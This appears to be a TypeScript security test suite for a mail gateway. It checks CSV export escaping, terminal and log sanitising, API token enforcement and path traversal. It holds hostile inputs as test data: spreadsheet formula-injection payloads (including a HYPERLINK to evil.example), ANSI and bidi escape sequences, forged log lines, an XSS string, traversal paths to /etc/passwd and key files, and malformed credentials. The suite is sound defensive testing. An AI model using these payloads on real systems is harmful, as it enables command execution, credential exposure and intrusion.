/** What strangers wrote is shown to an operator and obeyed by nobody: spreadsheet, terminal, log. And the API asks who is there. */
import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { until } from '../support/program.ts'
import { all, type Family, type Seen, type Try } from './attack.ts'
import { content, makeMark } from './letters.ts'
import { type Stage, sharedStage } from './stage.ts'

export const control: Family = {
  name: 'control',
  title: 'exports, traces, logs and the API (2.10, T13, T16)',
  async run({ attempt }) {
    const stage = await sharedStage()
    await cells(stage, attempt)
    await terminals(stage, attempt)
    await api(stage, attempt)
  },
}

const formulas = [
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '+1',
  '\t=1',
  '"=1+1"',
  ';=1',
  '=HYPERLINK("http://evil.example/"&A1,"x")',
  '\uff1dcmd',
]

async function cells(stage: Stage, attempt: Try): Promise<void> {
  for (const formula of formulas) {
    const mark = makeMark()
    const text = content({ mark, to: 'john@shared.example' }).replace(
      `Subject: ${mark}`,
      `Subject: ${Buffer.from(formula).toString('latin1')}`,
    )
    await stage.send({ ehlo: '=cmd' }, { from: '<=s@away.example>', to: ['<john@shared.example>'], content: text })
    await attempt(`subject ${formula} in the exported trace`, 'no cell that begins a formula', async () => {
      const csv = await until('the trace', async () => {
        const { text: said } = await stage.ask('GET', `/v1/trace.csv?messageId=${mark}@border.example`)
        return said.split('\r\n').length > 3 ? said : undefined
      })
      const bad = cellsOf(csv).filter(
        (cell) => /^(?:["' ]*[=+@\uff1d]|["' ]*[\t\r\n\0]|["' ]*-\D)/.test(cell) && !cell.startsWith("'"),
      )
      return all('each with an apostrophe before it', [bad.length === 0, bad.join(' | ')])
    })
  }
}

/** RFC 4180. */
function cellsOf(csv: string): readonly string[] {
  return [...csv.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,\r\n]*))/gm)].map(([, quoted, plain]) =>
    (quoted ?? plain ?? '').replaceAll('""', '"'),
  )
}

const sequences: Readonly<Record<string, string>> = {
  'a window title by ANSI': '\x1b]0;owned\x07',
  'a screen wiped by ANSI': '\x1b[2J\x1b[H',
  'C1 control': '\u009b2J',
  'a bidi override': '\u202egnp.exe',
  'a log line of its own': '\r\n {"level":"info","msg":"forged-line"}',
  'a bare CR': 'x\rforged-line',
  markup: '"><img src=x onerror=alert(1)>',
}

async function terminals(stage: Stage, attempt: Try): Promise<void> {
  for (const [name, bytes] of Object.entries(sequences)) {
    const mark = makeMark()
    const wire = Buffer.from(bytes).toString('latin1')
    const text = content({ mark, to: 'john@shared.example', from: `"${wire}" <s@away.example>` }).replace(
      `Subject: ${mark}`,
      `Subject: ${wire}`,
    )
    await stage.send({}, { from: '<s@away.example>', to: ['<john@shared.example>'], content: text })
    await attempt(`subject and name with ${name}: trace, log`, 'escaped', async () => {
      const id = `${mark}@border.example`
      const said = await until('the trace', async () => {
        const { out } = await stage.gateway.run('trace', '--message-id', id)
        return out.includes(mark) ? out : undefined
      })
      const { out: json } = await stage.gateway.run('--json', 'trace', '--message-id', id)
      const log = stage.gateway.log()
      return all(
        'escaped',
        [!unsafe.test(said), `raw in the trace: ${unsafe.exec(said)?.[0] ?? ''}`],
        [!/[\0-\x08\x0b-\x1f\x7f]/.test(json), 'raw in the JSON'],
        [!said.split('\n').some((line) => line.trimStart().startsWith('forged-line')), 'a line of its own'],
        [
          !unsafe.test(log) && !log.split('\n').some((line) => line.includes('forged-line') && !line.includes('{')),
          'raw in the log',
        ],
      )
    })
  }
}
const unsafe = /[\0-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/

async function api(stage: Stage, attempt: Try): Promise<void> {
  const { url, token } = stage.gateway
  const { text } = await stage.ask('GET', '/v1/openapi.json')
  const { paths } = JSON.parse(text) as { paths: Record<string, Record<string, unknown>> }
  const operations = Object.entries(paths).flatMap(([path, methods]) =>
    Object.keys(methods).map((method) => [method.toUpperCase(), path] as const),
  )
  const closed = operations.filter(([, path]) => path.startsWith('/v1/') && !['/v1/health', '/v1/ready'].includes(path))
  const credentials: Readonly<Record<string, Record<string, string>>> = {
    'no token': {},
    'a wrong token': { authorization: 'Bearer 00000000' },
    'a token cut short': { authorization: `Bearer ${token.slice(0, -1)}` },
    'Basic instead of Bearer': { authorization: `Basic ${Buffer.from(`x:${token}`).toString('base64')}` },
    'the token as a cookie': { cookie: `token=${token}` },
  }
  for (const [name, headers] of Object.entries(credentials))
    await attempt(`API: ${closed.length} operations with ${name}`, '401 each', async () => {
      const open: string[] = []
      for (const [method, path] of closed) {
        const answer = await fetch(`${url}${path.replaceAll(/\{\w+\}/g, 'x')}`, { method, headers })
        if (answer.status !== 401) open.push(`${method} ${path} ${answer.status}`)
      }
      return all('401 each', [open.length === 0, open.join(', ')])
    })
  await attempt('API: the token in the address', '401', async () => {
    const { status } = await fetch(`${url}/v1/directory?token=${token}&access_token=${token}`)
    return { held: status === 401, happened: `${status}` }
  })
  const traversals: readonly (readonly [string, string, unknown?])[] = [
    ['GET', '/v1/queue/..%2f..%2f..%2fetc%2fpasswd'],
    ['GET', '/v1/../api.token'],
    ['POST', '/v1/dkim/..%2f..%2fevil'],
    ['GET', '/v1/domains/..%2f..%2fetc%2fpasswd/dns'],
    ['PUT', '/v1/secrets/..%2f..%2fevil', { value: 'canary-canary-canary' }],
  ]
  // Whoever may apply a project names files of the machine; what is in them, other than a project, is not told.
  const files = [
    '/etc/passwd',
    '../../../etc/passwd',
    join(stage.dir, 'contoso.secret'),
    join(stage.dir, 'gw.key'),
    join(stage.gateway.data, 'api.token'),
  ]
  for (const file of files)
    for (const path of ['/v1/directory/import', '/v1/project/differences'])
      await attempt(`API: POST ${path} of ${file.replace(stage.dir, '')}`, '4xx, nothing of the file', async () => {
        const { status, text: said } = await stage.ask('POST', path, { file })
        const [line = ''] = existsSync(file) ? readFileSync(file, 'utf8').split('\n') : ['root:x']
        return all(
          `${status} ${said}`,
          [status >= 400 && status < 500, `${status} ${said}`],
          [
            line.startsWith('-----BEGIN') || !said.includes(line.slice(0, 12)),
            `it tells what is in the file: ${said.replaceAll(line, '(its first line)')}`,
          ],
        )
      })
  for (const [method, path, body] of traversals)
    await attempt(
      `API: ${method} ${path}${body === undefined ? '' : ` ${JSON.stringify(body)}`}`,
      '4xx, nothing of the file',
      async (): Promise<Seen> => {
        const { status, text: said } = await stage.ask(method, path, body)
        return all(
          `${status} ${said}`,
          [status >= 400 && status < 500, `${status} ${said}`],
          [!existsSync(join(stage.dir, 'evil')) && !existsSync(join(stage.dir, 'evil.key')), 'a file was made'],
        )
      },
    )
}
